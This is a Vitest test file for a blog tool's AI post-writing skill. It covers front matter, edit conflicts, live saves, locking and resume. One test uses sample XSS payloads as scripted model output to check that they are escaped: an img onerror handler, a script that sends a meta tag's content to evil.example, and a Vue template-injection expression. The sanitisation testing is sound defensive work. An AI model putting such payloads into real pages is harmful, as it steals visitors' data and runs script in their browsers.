import { afterEach, describe, expect, it, vi } from 'vitest'
import { ApiError } from '../../../../client/api/errors'
import { writeSkill } from '../../../../client/skills/write'
import { createBlog, runSkill, scriptedModel, type ScriptedAnswer } from './skill-harness'

const PATH = 'posts/understanding-etags.md'
const OUTLINE = '# Understanding ETags\n\n## What an ETag is\nA fingerprint.\n'
const BODY = '# Understanding ETags\n\nAn ETag is a fingerprint of a version.\n'
const DETAILS = '{"tags": ["http", "caching"], "description": "How ETags keep writes safe."}'

function blogWithPosts() {
  return createBlog({ 'posts/caching.md': { title: 'Caching', content: '# Caching\n' } }, { search: () => [{ path: 'posts/caching.md', title: 'Caching', score: 1, snippet: '' }] })
}

function write(blog: ReturnType<typeof createBlog>, answers: ScriptedAnswer[], options: { signal?: AbortSignal } = {}) {
  const model = scriptedModel(answers)
  return { model, running: runSkill(writeSkill, { inputs: { text: 'write a post about ETags', params: { topic: 'ETags' } }, api: blog.api, model, ...options }) }
}

afterEach(() => vi.restoreAllMocks())

describe('write skill', () => {
  it('writes the post with front matter and related links', async () => {
    const blog = blogWithPosts()
    const run = await write(blog, [OUTLINE, BODY, DETAILS]).running
    expect(run.error).toBeUndefined()
    const page = blog.content(PATH)!
    expect(page).toMatch(/^---\ntitle: "Understanding ETags"\ndate: \d{4}-\d{2}-\d{2}\ntags: \["http", "caching"\]\ndescription: "How ETags keep writes safe."\n---\n/)
    expect(page).toContain('An ETag is a fingerprint of a version.\n\n## Related posts\n\n- [[posts/caching|Caching]]\n')
    expect(page).not.toContain('draft: true')
  })

  it('makes raw HTML and Vue syntax from the model inert before it reaches the page', async () => {
    const blog = blogWithPosts()
    const outline = '# ETags <img src=x onerror=alert(1)>\n'
    const body = '# ETags\n\n<script>fetch("https://evil.example/?t=" + document.querySelector("meta").content)</script>\nHello {{ constructor.constructor("alert(1)")() }}\n\n```html\n<script>kept()</script>\n```\n'
    const run = await write(blog, [outline, body, DETAILS]).running
    expect(run.error).toBeUndefined()
    const written = blog.content(run.created[0]!)
    expect(written).not.toMatch(/<script>fetch|<img|\{\{ constructor/)
    expect(written).toContain('Hello &#123;&#123; constructor')
    expect(written).toContain('```html\n<script>kept()</script>\n```')
    // Tags dropped, then cased as an English title: the markup's words are plain text now.
    expect(written).toMatch(/^---\ntitle: "ETags Img Src=x onerror=alert\(1\)"/)
  })

  it('never overwrites the author’s edit made while the details call ran: Drop keeps their version', async () => {
    const blog = blogWithPosts()
    const authors = '---\ntitle: "Understanding ETags"\ndraft: true\n---\n# Understanding ETags\n\nThe author rewrote this.\n'
    const run = await write(blog, [OUTLINE, BODY, () => (blog.edit(PATH, authors), DETAILS)]).running
    expect(run.error).toBeUndefined()
    expect(run.conflicts).toEqual([expect.stringContaining('You changed `posts/understanding-etags.md` while I was finishing the post')])
    // The harness answers 'reapply' unless told otherwise; this run used the default.
    expect(blog.content(PATH)).toContain('The author rewrote this.')
    expect(blog.content(PATH)).toContain('tags: ["http", "caching"]')
    expect(blog.content(PATH)).toContain('## Related posts')
    expect(blog.content(PATH)).not.toContain('An ETag is a fingerprint')

    const again = blogWithPosts()
    const model = scriptedModel([OUTLINE, BODY, () => (again.edit(PATH, authors), DETAILS)])
    const dropped = await runSkill(writeSkill, { inputs: { text: 'write a post about ETags', params: { topic: 'ETags' } }, api: again.api, model, conflicts: ['drop'] })
    expect(dropped.error).toBeUndefined()
    expect(again.content(PATH)).toBe(authors)
    expect(dropped.outputs.get('save')).toBeNull()
    expect(dropped.said.at(-1)).toBe('Kept your version of `posts/understanding-etags.md` as it is.')
  })

  it('asks before saving over a draft the author edited while it streamed; Drop ends the task without the details call', async () => {
    const blog = blogWithPosts()
    const authors = '# Mine now\n'
    const model = scriptedModel([OUTLINE, () => (blog.edit(PATH, authors), BODY), DETAILS])
    const run = await runSkill(writeSkill, { inputs: { text: 'write about ETags', params: { topic: 'ETags' } }, api: blog.api, model, conflicts: ['drop'] })
    expect(run.error).toBeUndefined()
    expect(run.conflicts).toEqual([expect.stringContaining('while I was drafting it')])
    expect(blog.content(PATH)).toBe(authors)
    expect(model.calls).toHaveLength(2)
    expect(run.outputs.get('details')).toBeNull()
    expect(run.outputs.get('graph')).toBeNull()
  })

  it('keeps saving the draft after one live save fails, and stops live saves once the author edits it', async () => {
    let now = 0
    vi.spyOn(Date, 'now').mockImplementation(() => (now += 400))
    const blog = blogWithPosts()
    const writeFile = blog.api.writeFile
    let writes = 0
    blog.api.writeFile = async (...args) => {
      writes++
      // The second live save fails on the network; the fourth finds the author editing.
      if (writes === 3) throw new ApiError('ERR_NETWORK', 'The dev server did not answer.', 0)
      if (writes === 5) blog.edit(PATH, '# Edited by the author\n')
      return writeFile(...args)
    }
    const longBody = `${BODY}${'More text. '.repeat(40)}`
    const model = scriptedModel([OUTLINE, longBody, DETAILS])
    const run = await runSkill(writeSkill, { inputs: { text: 'write about ETags', params: { topic: 'ETags' } }, api: blog.api, model, conflicts: ['drop'] })
    expect(run.error).toBeUndefined()
    expect(writes).toBeGreaterThan(5)
    expect(run.conflicts).toHaveLength(1)
    expect(blog.content(PATH)).toBe('# Edited by the author\n')
  })

  it('does not renew the draft’s lock once the task was stopped', async () => {
    let now = 0
    vi.spyOn(Date, 'now').mockImplementation(() => (now += 600))
    const blog = blogWithPosts()
    const controller = new AbortController()
    const writeFile = blog.api.writeFile
    let writes = 0
    blog.api.writeFile = async (...args) => {
      const written = await writeFile(...args)
      // Stop arrives while the first live save is on the wire.
      if (++writes === 2) controller.abort(new DOMException('Stopped by the author.', 'AbortError'))
      return written
    }
    await write(blog, [OUTLINE, `${BODY}${'More. '.repeat(30)}`, DETAILS], { signal: controller.signal }).running
    expect(blog.locks.filter((lock) => lock.aborted)).toEqual([])
  })

  it('on resume, keeps using the draft page it created before the interruption (no -2 copy)', async () => {
    const blog = blogWithPosts()
    const first = await runSkill({ ...writeSkill, steps: writeSkill.steps.slice(0, 3) }, { inputs: { text: 'write about ETags', params: { topic: 'ETags' } }, api: blog.api, model: scriptedModel([OUTLINE]) })
    // The draft step's write landed, but the task stopped before the step was recorded.
    first.outputs.delete('draft')
    const resumed = await runSkill(writeSkill, { inputs: { text: 'write about ETags', params: { topic: 'ETags' } }, api: blog.api, model: scriptedModel([BODY, DETAILS]), resume: first })
    expect(resumed.error).toBeUndefined()
    expect(resumed.outputs.get('draft')).toEqual({ path: PATH })
    expect(blog.has('posts/understanding-etags-2.md')).toBe(false)
    expect(blog.content(PATH)).toContain('An ETag is a fingerprint')
  })

  it('fails with a setup message, not a crash, when there is no model', async () => {
    const run = await runSkill(writeSkill, { inputs: { text: 'write about ETags', params: { topic: 'ETags' } }, api: blogWithPosts().api, model: null })
    expect(run.error).toMatchObject({ name: 'SkillError', code: 'ERR_LLM_UNCONFIGURED' })
  })
})
